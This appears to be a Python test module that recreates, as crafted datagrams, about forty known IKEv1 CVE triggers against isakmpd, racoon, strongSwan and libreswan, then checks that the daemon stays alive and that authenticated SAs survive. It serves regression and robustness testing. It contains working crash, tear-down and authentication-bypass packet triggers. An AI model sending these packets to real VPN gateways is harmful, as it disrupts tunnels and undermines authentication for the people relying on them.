# tests/interop/hostile/cves.py: one named, scripted re-creation of each IKEv1-relevant CVE
# trigger of the shared reliability notes §A1 (isakmpd, racoon, strongSwan, libreswan), sent by
# hostile.py like the corpus cases (liveness probe and PID check after every datagram). Cases
# whose CVE was an authentication bypass or a state tear-down also check that the attacker's own
# established ISAKMP SA still answers an authenticated R-U-THERE afterwards (the SA survived) or
# that duplicates get no more answers than requests (no amplification).
import os
import socket
import struct

from corpus import (FRAG, Case, Z8, at_mm4_then, attr_mm1, count_at_most_sent, frag,
                    half_open_then, mm1_with, my_id, rnd, sa_alive)
from ike1 import (CERT, CR, D, EXCH_AM, EXCH_INFO, EXCH_MM, EXCH_QM, EXCH_TRANS, FLAG_ENC, HASH,
                  ID, KE, N, NONCE, R_U_THERE, R_U_THERE_ACK, SA, SIG, VID, Session,
                  default_sa_body, delete_body, header, id_body, ike_transform, message,
                  notify_body, payload, proposal, sa_body, tlv, tv)


class Cve(Case):
    def __init__(self, cve, what, build, check=None, session=False):
        super().__init__(0, cve, build, check, session)
        self.cve, self.what = cve, what


def raw_list(datagrams):
    return lambda ctx: list(datagrams)


def esp_sa(transform_id=12, auth=2, keylen=128):
    attrs = tv(1, 1) + tv(2, 1200) + tv(4, 1) + (tv(5, auth) if auth else b"") + (tv(6, keylen) if keylen else b"")
    t = struct.pack("!BBH", 1, transform_id, 0) + attrs
    return sa_body([proposal(proto=3, spi=os.urandom(4), transforms=[t])])


def qm1(s, sa, idci, idcr):
    items = [(SA, sa), (NONCE, os.urandom(16)), (ID, idci), (ID, idcr)]
    return s.protected(EXCH_QM, items)


def ecp_half_open(ctx, ke):
    s = ctx.new_session()
    s.sa_b = sa_body([proposal(transforms=[ike_transform(group=19)])])
    try:
        s.step12()
    except RuntimeError:
        return []  # group 19 not configured: the MM1 itself was the test
    return [message(s.icky, s.rcky, EXCH_MM, [(KE, ke), (NONCE, s.ni)])]


def am1(items_extra=(), sa=None, icky=None):
    items = [(SA, sa or default_sa_body()), (KE, b"\2" * 256), (NONCE, b"n" * 16),
             (ID, id_body(2, b"am.example"))] + list(items_extra)
    return message(icky or rnd(), Z8, EXCH_AM, items)


def cve_2023_30570(ctx):
    # AM with only unacceptable crypto; whatever comes back, resend with its responder cookie.
    icky = rnd()
    first = am1(sa=sa_body([proposal(transforms=[ike_transform(enc=1, keylen=0, hash_alg=1, group=1)])]), icky=icky)
    ctx.s500.send(first)
    r = ctx.s500.recv_for(icky, 0.3)
    rcky = r[8:16] if r else rnd()
    return [first, first[:8] + rcky + first[16:]]


def all_cves():
    dn_bad = id_body(9, b"\x30\x84\xff\xff\xff\xf0\x31\x00")
    cleardel = lambda ctx: (lambda s: [message(s.icky, s.rcky, EXCH_INFO, [
        (D, delete_body([s.icky + s.rcky])), (D, delete_body([b"\1\2\3\4"], spi_size=4, proto=3)),
        (N, notify_body(24578, s.icky + s.rcky))], mid=0x31337)])(ctx.session())
    sess = lambda ctx: ctx.session()
    return [
        # --- OpenBSD isakmpd
        Cve("CVE-2002-2222", "payloads out of sequence (KE/Nonce before SA; SA in MM3)", lambda ctx: [
            mm1_with(items=[(KE, b"\2" * 256), (NONCE, b"n" * 16), (SA, default_sa_body())])]
            + half_open_then(lambda s: [(SA, default_sa_body()), (NONCE, s.ni)])(ctx), session=True),
        Cve("CVE-2004-0218", "payload length 0 (infinite loop)", raw_list([
            header(rnd(), Z8, SA, EXCH_MM, 0, 0, 28 + 8) + payload(VID, b"", length=0) + b"\0" * 4])),
        Cve("CVE-2004-0219", "malformed nested IPsec SA payload", raw_list([
            mm1_with(struct.pack("!II", 1, 1) + payload(0, proposal(transforms=[ike_transform()]), length=400)),
            mm1_with(sa_body([struct.pack("!BBBB", 1, 1, 0, 1) + payload(0, ike_transform(), length=300)]))])),
        Cve("CVE-2004-0220", "CERT_REQ length underflow", raw_list([
            mm1_with(items=[(SA, default_sa_body()), (CR, b"")]),
            mm1_with(items=[(SA, default_sa_body()), (CR, b"\4")]),
            header(rnd(), Z8, CR, EXCH_MM, 0, 0, 28 + 4) + payload(0, b"", length=3)])),
        Cve("CVE-2004-0221", "DELETE with a huge number of SPIs", lambda ctx: [
            message(rnd(), rnd(), EXCH_INFO, [(D, delete_body([rnd() * 2], count=65535))], mid=5),
            ctx.session().protected(EXCH_INFO, [(D, delete_body([b"\1\2\3\4"], spi_size=4, proto=3, count=65535))])],
            sa_alive, session=True),
        Cve("CVE-2004-0222", "error-path leaks: 20 invalid packets of several kinds",
            raw_list([attr_mm1(group=0), attr_mm1(enc=1, keylen=0), mm1_with(items=[(VID, b"x")]),
                      message(rnd(), rnd(), EXCH_MM, [(KE, b"\2" * 256)])] * 5)),
        Cve("isakmpd-2004-01-unauth-delete", "crafted cleartext DELETE removes SAs (Walpuski)", cleardel,
            sa_alive, session=True),
        Cve("isakmpd-2025-ecp-ke", "malformed ECP KE (-stable errata dh.c 1.27.6.1 UAF)", lambda ctx:
            ecp_half_open(ctx, b"\xff" * 64) + ecp_half_open(ctx, b"\4" + b"\1" * 63) + ecp_half_open(ctx, b"\0" * 65),
            session=True),
        # --- racoon
        Cve("CVE-2004-0164", "DELETE / INITIAL-CONTACT without HASH", lambda ctx: (lambda s: [
            s.encrypted(EXCH_INFO, [(D, delete_body([s.icky + s.rcky]))], 0x4141),
            s.encrypted(EXCH_INFO, [(N, notify_body(24578, s.icky + s.rcky))], 0x4142)])(ctx.session()),
            sa_alive, session=True),
        Cve("CVE-2004-0403", "ISAKMP header with a huge length field", raw_list([
            mm1_with()[:24] + struct.pack("!I", 0x7FFFFFFF) + mm1_with()[28:],
            mm1_with()[:24] + struct.pack("!I", 0xFFFFFF00)])),
        Cve("CVE-2005-0398", "malformed ISAKMP header", raw_list([
            rnd() + rnd() + b"\x01\x10\x02", rnd() + Z8 + b"\xff\xff\xff\xff" + b"\0" * 8])),
        Cve("CVE-2005-3732", "Aggressive Mode with missing payloads (PROTOS c09)", raw_list([
            message(rnd(), Z8, EXCH_AM, [(SA, default_sa_body())]),
            message(rnd(), Z8, EXCH_AM, [(ID, id_body(2, b"x"))]), header(rnd(), Z8, 0, EXCH_AM, 0, 0, 28)])),
        Cve("CVE-2007-1841", "crafted DELETE/NOTIFY tear tunnels down", cleardel, sa_alive, session=True),
        Cve("CVE-2008-3651", "invalid proposals (leak)", raw_list([
            mm1_with(sa_body([proposal(transforms=[ike_transform(enc=e, keylen=0)])])) for e in (0, 99, 250, 65535)])),
        Cve("CVE-2009-1574", "vendor fragment without payload", raw_list([
            header(rnd(), Z8, FRAG, EXCH_MM, 0, 0, 32) + payload(0, b""), frag(rnd(), 1, 1, True, b"")])),
        Cve("CVE-2015-4047", "two small packets reaching GSS-API auth", lambda ctx: (lambda s: [
            message(s.icky, s.rcky, EXCH_MM, [(KE, s.gx), (NONCE, s.ni), (0x80, b"\1")])] if s else [])(
            ctx.half_open()) + [attr_mm1(auth=65001), attr_mm1(auth=65003)], session=True),
        Cve("CVE-2016-10396", "fragments in adversarial order", lambda ctx: (lambda ic: [
            frag(ic, 7, i, i == 16, bytes([i]) * 40) for i in list(range(16, 0, -1)) + [3, 3, 1]])(rnd())),
        # --- strongSwan
        Cve("CVE-2009-0790", "DPD R-U-THERE / ACK for a missing ISAKMP SA", lambda ctx: [
            message(rnd(), rnd(), EXCH_INFO, [(N, notify_body(R_U_THERE, rnd() * 2, b"\0\0\0\1"))], mid=1),
            message(rnd(), rnd(), EXCH_INFO, [(N, notify_body(R_U_THERE_ACK, rnd() * 2, b"\0\0\0\1"))], mid=2),
            header(rnd(), rnd(), HASH, EXCH_INFO, FLAG_ENC, 3, 60) + os.urandom(32)]),
        Cve("strongswan-4.2.7-zero-ke", "KE payload of all zeroes", half_open_then(
            lambda s: [(KE, b"\0" * 256), (NONCE, s.ni)]), session=True),
        Cve("CVE-2010-2628", "over-long identities", lambda ctx: [message(
            rnd(), Z8, EXCH_AM, [(SA, default_sa_body()), (KE, b"\2" * 256), (NONCE, b"n" * 16),
                                 (ID, id_body(2, b"%n" * 3000))])] + at_mm4_then(
            lambda s: [(ID, id_body(3, b"A" * 5000)), (HASH, s.hash_i(id_body(3, b"A" * 5000)))])(ctx), session=True),
        Cve("CVE-2013-5018", "XAUTH user name with a huge ASN.1 length", lambda ctx: [ctx.session().protected(
            EXCH_TRANS, [(14, struct.pack("!BBH", 1, 0, 7) + tlv(16521, b"\x30\x84\xff\xff\xff\xff") + tlv(16522, b"\x04"))])],
            sa_alive, session=True),
        Cve("CVE-2013-6075", "crafted ID_DER_ASN1_DN (length check)", at_mm4_then(
            lambda s: [(ID, dn_bad), (HASH, s.hash_i(dn_bad))]), session=True),
        Cve("CVE-2013-6076", "crafted IKEv1 fragment", lambda ctx: (lambda ic: [
            frag(ic, 1, 1, True, b""), frag(ic, 1, 2, True, b"x"), frag(ic, 0, 0, False, b"")])(rnd())),
        Cve("CVE-2014-2891", "ID_DER_ASN1_DN that is empty / not a SEQUENCE", at_mm4_then(
            lambda s: [(ID, id_body(9, b"")), (HASH, s.hash_i(id_body(9, b"")))]), session=True),
        Cve("CVE-2014-9221", "DH group 1025 (internal custom group id)", lambda ctx: [attr_mm1(group=1025)]
            + half_open_then(lambda s: [(KE, b"\2" * 128), (NONCE, s.ni)])(ctx), session=True),
        Cve("CVE-2015-3991", "IKEv2 payload types in IKEv1 messages", lambda ctx: [
            mm1_with(items=[(33, default_sa_body())]), mm1_with(items=[(SA, default_sa_body()), (46, b"\0" * 40)]),
            ctx.session().protected(EXCH_INFO, [(41, b"\0" * 8)])], sa_alive, session=True),
        Cve("CVE-2023-41913", "DH public value longer than any buffer", half_open_then(
            lambda s: [(KE, b"\x42" * 16000), (NONCE, s.ni)]), session=True),
        Cve("CVE-2018-16151", "PKCS#1-looking SIG with trailing garbage under PSK auth", at_mm4_then(
            lambda s: [(ID, my_id(s)), (SIG, b"\0\1" + b"\xff" * 200 + b"\0" + b"\x30\x21" + b"\0" * 40 + b"junk")]),
            session=True),
        # --- libreswan
        Cve("CVE-2013-4564", "very short packets", raw_list([b"", b"\x00", rnd()[:5], (rnd() + rnd())[:17],
                                                                (rnd() * 4)[:27]])),
        Cve("CVE-2015-3204", "unassigned DOI situation bits; next payload SAK (130)", raw_list([
            mm1_with(sa_body([proposal(transforms=[ike_transform()])], situation=0xFFFFFFFF)),
            mm1_with(items=[(SA, default_sa_body()), (130, b"\0" * 20)])])),
        Cve("CVE-2015-3240", "DH public value 0 / 1", lambda ctx: half_open_then(
            lambda s: [(KE, b"\0" * 256), (NONCE, s.ni)])(ctx) + half_open_then(
            lambda s: [(KE, (1).to_bytes(256, "big")), (NONCE, s.ni)])(ctx), session=True),
        Cve("CVE-2016-5361", "retransmitted AM1 (amplification)", lambda ctx: [am1()] * 3,
            count_at_most_sent, session=True),
        Cve("CVE-2019-10155", "Informational HASH(1) not verified", lambda ctx: (lambda s: [
            s.protected(EXCH_INFO, [(D, delete_body([s.icky + s.rcky]))], hash_value=b"\x11" * 20)])(ctx.session()),
            sa_alive, session=True),
        Cve("CVE-2020-1763", "encrypted INFORMATIONAL with no matching state", lambda ctx: [
            header(rnd(), rnd(), HASH, EXCH_INFO, FLAG_ENC, 0x77, 28 + 48) + os.urandom(48),
            header(ctx.session().icky, rnd(), HASH, EXCH_INFO, FLAG_ENC, 0x78, 28 + 48) + os.urandom(48)],
            session=True),
        Cve("CVE-2022-23094", "malformed MM rejected early, no state", raw_list([
            message(rnd(), rnd(), EXCH_MM, [(KE, b"")]), mm1_with()[:40],
            message(rnd(), rnd(), EXCH_MM, [(ID, b"")], flags=FLAG_ENC)])),
        Cve("CVE-2023-30570", "AM unacceptable crypto, resent with the responder cookie", cve_2023_30570,
            session=True),
        Cve("CVE-2023-38711", "QM IDcr of type ID_FQDN on an address connection", lambda ctx: [qm1(
            ctx.session(), esp_sa(), id_body(1, socket.inet_aton("10.99.1.3")), id_body(2, b"fqdn.example"))],
            sa_alive, session=True),
        Cve("CVE-2023-38712", "DELETE of the ISAKMP SA, then notifies/duplicate DELETE on it", lambda ctx:
            ctx.consume(lambda s: [
                s.protected(EXCH_INFO, [(D, delete_body([s.icky + s.rcky])), (D, delete_body([s.icky + s.rcky]))]),
                s.protected(EXCH_INFO, [(N, notify_body(R_U_THERE, s.icky + s.rcky, b"\0\0\0\2"))]),
                s.protected(EXCH_INFO, [(D, delete_body([s.icky + s.rcky]))])]), session=True),
        Cve("CVE-2024-3652", "QM proposing AES-GMAC (keymat length 0)", lambda ctx: [qm1(
            ctx.session(), esp_sa(transform_id=23, auth=0), id_body(1, socket.inet_aton("10.99.1.3")),
            id_body(1, socket.inet_aton("10.99.1.1")))], sa_alive, session=True),
        Cve("CVE-2026-50721", "IKEv1 SIG with a wrong hash length", at_mm4_then(
            lambda s: [(ID, my_id(s)), (SIG, b"\0\1\xff\xff\0" + s.hash_i(my_id(s))[:7])]), session=True),
    ]
